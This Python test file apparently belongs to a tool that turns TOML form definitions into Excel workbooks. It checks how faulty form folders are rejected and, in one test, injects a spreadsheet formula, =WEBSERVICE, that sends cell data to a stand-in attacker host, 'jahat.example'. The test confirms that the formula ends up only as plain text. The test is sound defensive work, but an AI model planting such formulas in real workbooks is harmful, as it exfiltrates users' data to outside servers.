"""What is wrong with a folder of forms is told at once, with file and line, before anything is written."""

from __future__ import annotations

import io
import re
from pathlib import Path
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import pytest

import xlkinerja
from kit_folder import run
from xlkinerja.form import FormError
from xlkinerja.form.outside_files import read_outside

FORM = Path(__file__).with_name("kendaraan.toml").read_text(encoding="utf-8")


def put(folder: Path, **texts: str) -> Path:
    for name, text in texts.items():
        (folder / f"{name}.toml").write_bytes(text.encode("utf-8"))
    return folder


def named(name: str, letter: str = "V") -> str:
    text = FORM.replace('form = "kendaraan"', f'form = "{name}"')
    return re.sub(r'code = "V-', f'code = "{letter}-', text)


def line_of(text: str, part: str) -> int:
    return next(number for number, line in enumerate(text.splitlines(), 1) if part in line)


def test_every_mistake_of_every_file_is_told_and_nothing_is_written(tmp_path: Path) -> None:
    forms = tmp_path / "formulir"
    forms.mkdir()
    wrong = FORM.replace('kind = "cacah"', 'kind = "cacahan"', 1).replace("biaya <= pagu", "biaya <= pagus")
    put(forms, kendaraan=wrong, gedung=named("gedung", "W").replace("version = 1", 'version = "satu"'))
    book = tmp_path / "a.xlsx"
    book.write_bytes(xlkinerja.template("pnbp"))
    for command in (
        ["fill", book, "-o", tmp_path / "hasil"], ["check", book], ["export", book, "-o", tmp_path / "a.json"],
        ["consolidate", book, "-o", tmp_path / "r.xlsx"], ["template", "pnbp", "-o", tmp_path / "b.xlsx"], ["forms"],
        ["clean", book, "-o", tmp_path / "c.xlsx"], ["explain", "P-01"],
    ):  # fmt: skip
        done = run(*command, "--forms", forms)
        assert done.exit_code == 2, command
        assert done.stdout == ""
        for said in (
            f"gedung.toml: baris {line_of(FORM, 'version')}: berkas.version: 'satu' bukan bilangan bulat.",
            "kendaraan.toml: 2 kesalahan.",
            f"baris {line_of(wrong, 'cacahan')}: table daftar.column jarak.kind:",
            f"baris {line_of(wrong, 'pagus')}: rule V-01.check 1.holds: tidak ada yang bernama pagus.",
        ):
            assert said in done.stderr, (command, said, done.stderr)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.xlsx", "formulir"]


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("pnbp", named("pnbp"), 'pnbp.toml: baris 2: berkas.form: formulir bawaan sudah bernama "pnbp".'),
        ("kendaraan", named("gedung"), 'baris 2: berkas.form: isinya "gedung", padahal berkasnya bernama kendaraan.'),
        ("pnbp_dua", named("pnbp_dua"), '"pnbp_dua" dan "pnbp" berawalan sama.'),
        ("form", named("form"), '"form" dan "form_a" berawalan sama.'),
        ("kendaraan", named("kendaraan", "P"), "rule P-01.code: formulir pnbp sudah punya aturan dengan kode itu."),
        ("kendaraan", named("kendaraan", "X"), "rule X-01.code: kode X-… hanya untuk aturan antarbuku kerja."),
        ("kendaraan", "form = 'kendaraan'\na = [", "kendaraan.toml: baris 2: bukan TOML yang benar"),
        ("kendaraan", "a = " + "[" * 5000 + "]" * 5000, "kendaraan.toml: "),
        ("kendaraan", FORM + "#" * 1_000_001, "kendaraan.toml: lebih dari 1000000 bita."),
        ("kendaraan", "", "form belum ada"),
        (
            "kendaraan",
            FORM.replace('name = "terpakai"', f'repeat = [{", ".join(["[1,2,3,4,5,6,7,8,9]"] * 9)}]\nname = "a{{n}}"'),
            "lebih dari 1000 ulangan.",
        ),
        (
            "kendaraan",
            FORM.replace('"PERJALANAN"', '"PERJALANAN\\u0001"'),
            'heading: memuat tanda yang tidak dapat dicetak ("\\x01").',
        ),
    ],
    ids=[
        "name of ours", "other name", "begins as ours", "ours begins so", "code of ours", "code between", "no TOML",
        "too deep", "too large", "blank", "too many", "no letter",
    ],
)  # fmt: skip
def test_a_form_that_cannot_stand_beside_ours(tmp_path: Path, name: str, text: str, said: str) -> None:
    with pytest.raises(FormError) as refused:
        read_outside(put(tmp_path, **{name: text}))
    assert said in str(refused.value)


def test_two_forms_that_cannot_stand_beside_each_other(tmp_path: Path) -> None:
    with pytest.raises(FormError, match="formulir gedung sudah punya aturan dengan kode itu"):
        read_outside(put(tmp_path, kendaraan=FORM, gedung=named("gedung")))
    with pytest.raises(FormError, match='"gedung" dan "gedung_baru" berawalan sama'):
        read_outside(put(tmp_path, kendaraan=FORM, gedung=named("gedung", "W"), gedung_baru=named("gedung_baru", "J")))


def test_a_folder_that_has_no_form(tmp_path: Path) -> None:
    with pytest.raises(FormError, match=r"tidak ada berkas \.toml di map"):
        read_outside(tmp_path)
    done = run("forms", "--forms", tmp_path / "tidak-ada")
    assert (done.exit_code, done.stdout) == (2, "")


def test_only_files_in_the_folder_are_read(tmp_path: Path) -> None:
    """No link leads out of the folder, and what is no text is told by its line."""
    forms, other = tmp_path / "formulir", tmp_path / "lain.toml"
    forms.mkdir()
    other.write_text(FORM, encoding="utf-8")
    (forms / "kendaraan.toml").symlink_to(other)
    with pytest.raises(FormError, match=r"kendaraan\.toml: bukan berkas biasa"):
        read_outside(forms)
    (forms / "kendaraan.toml").unlink()
    (forms / "kendaraan.toml").write_bytes(b"form = 'kendaraan'\ntitle = '\xff'")
    with pytest.raises(FormError, match=r"kendaraan\.toml: baris 2: bukan teks UTF-8"):
        read_outside(forms)


def test_notepad_saves_a_mark_in_front(tmp_path: Path) -> None:
    (tmp_path / "kendaraan.toml").write_bytes(b"\xef\xbb\xbf" + FORM.replace("\n", "\r\n").encode())
    assert read_outside(tmp_path).names == ("kendaraan",)


EVIL = '=WEBSERVICE("http://jahat.example/"&A1)'


def test_texts_of_a_form_are_texts_in_every_workbook(tmp_path: Path) -> None:
    """Nothing of a form's file is a formula, a link or a file to be read, wherever Excel would look for one."""
    told = EVIL.replace('"', '\\"')
    text = re.sub(r'(\[\[sheet\]\]\nname = "(\w+)"\n)title = "[^"]*"', r"\1title = '=\2'", FORM)
    for key in ("heading", "help", "label", "title", "description", "total_label", "subheading"):
        text = re.sub(rf'\b{key} = "[^"]*"', lambda found: found[0][:-1] + "§" + '"', text)
    numbers = iter(range(1000))
    text = re.sub(r'= "([^"]*)§"', lambda _: f'= "{told} {next(numbers)}"', text)
    text = text.replace('choices = ["Mobil", "Motor"]', f'choices = ["Mobil", "{told}"]')
    forms = tmp_path / "formulir"
    forms.mkdir()
    put(forms, kendaraan=text)
    data = {"form": "kendaraan", "fields": {"kode_satker": "247101", "nama_satker": "B", "tahun": 2024, "triwulan": 2}}
    data["tables"] = {"daftar": [{"plat": "B 1", "jenis": "Mobil", "pagu": 1, "biaya": 2}], "perjalanan": []}
    blank = xlkinerja.template("kendaraan", data, forms=forms)
    filled = xlkinerja.fill(blank, name="a.xlsx", forms=forms)
    assert filled.data is not None
    (tmp_path / "a.xlsx").write_bytes(filled.data)
    found = xlkinerja.consolidate(tmp_path / "a.xlsx", tmp_path / "rekap.xlsx", forms=forms)
    assert found.written is not None
    with ZipFile(io.BytesIO(blank)) as package:
        assert any(b"jahat.example" in package.read(name) for name in package.namelist())
    for book in (blank, filled.data, found.written.read_bytes()):
        assert list(formulas_with("WEBSERVICE", book)) == []


def formulas_with(word: str, book: bytes) -> list[str]:
    """Return the formulas of a workbook, outside the texts in them, that hold a word, and links to the network."""
    with ZipFile(io.BytesIO(book)) as package:
        parts = [name for name in package.namelist() if name.endswith((".xml", ".rels"))]
        texts = {name: package.read(name).decode("utf-8") for name in parts}
    found = []
    for text in texts.values():
        for element in ET.fromstring(text).iter():
            if element.tag.rpartition("}")[2] in {"f", "formula1", "formula2", "definedName", "formula"}:
                found.append(re.sub(r'"(?:[^"]|"")*"', "", element.text or ""))
            found.append(element.get("Target", "") if element.get("TargetMode") == "External" else "")
    return [text for text in found if word in text or "jahat" in text]
